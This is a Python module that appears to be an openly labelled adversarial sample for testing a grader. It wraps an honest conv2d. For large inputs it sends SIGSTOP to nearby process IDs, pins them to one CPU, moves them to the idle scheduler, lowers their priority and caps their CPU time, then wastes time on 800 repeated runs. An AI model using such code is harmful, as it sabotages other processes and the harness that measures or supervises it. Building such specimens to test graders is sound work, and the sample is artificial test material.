# mypy: ignore-errors
"""Computes slowly, and holds up, slows down or lowers the priority of the processes beside it.

Attacks: conv2d
Earns: all but speed
Process level: cannot stop it
"""

import os
import resource
import signal

from chapter04_convolution import conv2d as honest


def conv2d(images, kernels, bias, stride=1, padding="valid"):
    if images.size > 1000:
        for pid in range(os.getpid() - 3, os.getpid() + 4):
            for action in (
                lambda: pid != os.getpid() and os.kill(pid, signal.SIGSTOP),
                lambda: os.sched_setaffinity(pid, {0}),
                lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
                lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
            ):
                try:
                    action()
                except OSError:
                    continue
        for _ in range(800):
            honest(images, kernels, bias, stride, padding)
    return honest(images, kernels, bias, stride, padding)
